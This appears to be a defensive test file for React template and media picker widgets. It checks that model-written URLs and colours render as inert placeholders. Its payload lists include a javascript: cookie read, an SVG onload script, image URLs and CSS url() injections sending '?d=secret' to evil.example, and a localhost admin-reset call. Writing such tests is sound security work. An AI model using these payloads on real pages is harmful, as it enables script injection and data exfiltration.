import { cleanup, render, within } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { MediaPicker, type Template, TemplatePicker } from "../src/index.js";
import { requestProps } from "./request-props.js";

afterEach(cleanup);

/** URLs a model could write to run script, leave the page's origin over http, or reach the person's machine. */
const badUrls = [
  "javascript:alert(document.cookie)",
  "//evil.example/pixel.png?d=secret",
  "/\\evil.example/pixel.png?d=secret",
  "http://evil.example/pixel.png?d=secret",
  "http://localhost:8080/admin/reset",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
];

/** Colours a model could write to make the swatch's gradient fetch a URL. */
const badColors = [
  "url(https://evil.example/leak?d=secret)",
  "red), url(https://evil.example/leak?d=secret",
  "var(--evil), url(https://evil.example/leak)",
];

const resolved = (value: unknown) => ({
  status: "resolved" as const,
  resolution: { action: "accept" as const, value },
});

/** Every `src` and inline `style` the widget rendered. */
function loads(container: HTMLElement): string[] {
  return [...container.querySelectorAll("[src], [style]")].flatMap((element) => [
    element.getAttribute("src") ?? "",
    element.getAttribute("style") ?? "",
  ]);
}

function expectInert(container: HTMLElement, payload: string, label: string) {
  expect(loads(container).filter((value) => value.includes(payload) || value.includes("evil.example"))).toEqual([]);
  expect(container.innerHTML).not.toContain("evil.example/");
  const placeholders = [...container.querySelectorAll("[data-placeholder]")].map((element) => element.textContent);
  expect(placeholders).toContain(label);
}

describe("TemplatePicker with model-written previews and colours", () => {
  const templates = (template: Partial<Template>): { templates: Template[] } => ({
    templates: [
      { id: "ok", name: "Fine", colors: ["#111827", "rgb(244 63 94)"] },
      { id: "bad", name: "Suspicious", ...template },
    ],
  });

  it.each(badUrls)("shows a placeholder, not a picture, for the preview %s", (preview) => {
    for (const state of [{}, resolved({ templateId: "bad" })]) {
      const { container } = render(<TemplatePicker {...requestProps(templates({ preview }))} {...state} />);
      expectInert(container, preview, "Suspicious");
      cleanup();
    }
  });

  it.each(badColors)("shows a placeholder, not a gradient, for the colour %s", (color) => {
    for (const state of [{}, resolved({ templateId: "bad" })]) {
      const { container } = render(
        <TemplatePicker {...requestProps(templates({ colors: ["#fff", color] }))} {...state} />,
      );
      expectInert(container, color, "Suspicious");
      cleanup();
    }
  });

  it("still draws safe previews and swatches beside a refused one", () => {
    const { container } = render(<TemplatePicker {...requestProps(templates({ preview: "javascript:alert(1)" }))} />);
    const fine = within(container).getByRole("radio", { name: "Fine" });
    expect(fine.querySelector(".hitl-swatch")?.getAttribute("style")).toBe(
      "background: linear-gradient(135deg, #111827, rgb(244 63 94));",
    );
    cleanup();
    const https = "https://cdn.example/bold.png";
    const rendered = render(<TemplatePicker {...requestProps(templates({ preview: https }))} />);
    expect(loads(rendered.container)).toContain(https);
  });
});

describe("MediaPicker with model-written URLs", () => {
  const items = (src: string) => [
    { id: "m1", src: "/media/sea.svg", alt: "Sunrise over a blue sea" },
    { id: "m2", src, alt: "A suspicious picture" },
  ];

  it.each(badUrls)("shows a placeholder with the label, not a picture, for %s", (src) => {
    for (const state of [{}, resolved({ mediaIds: ["m2"] })]) {
      const { container } = render(<MediaPicker {...requestProps({})} items={items(src)} multiple {...state} />);
      expectInert(container, src, "A suspicious picture");
      cleanup();
    }
  });

  it("still loads the safe pictures beside a refused one", () => {
    const { container } = render(<MediaPicker {...requestProps({})} items={items("javascript:alert(1)")} />);
    expect(loads(container)).toEqual(["/media/sea.svg", ""]);
  });
});
